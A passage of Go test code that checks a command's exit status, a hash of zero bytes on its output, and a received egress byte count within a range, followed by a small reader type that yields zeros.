	if r.status != 0 || !strings.HasPrefix(r.stdout, fmt.Sprintf("%x", zeros.Sum(nil))) || r.egress.Received < down || r.egress.Received > down+1000 {
		t.Error(r)
	}
}

type zero struct{}

func (zero) Read(b []byte) (int, error) { clear(b); return len(b), nil }
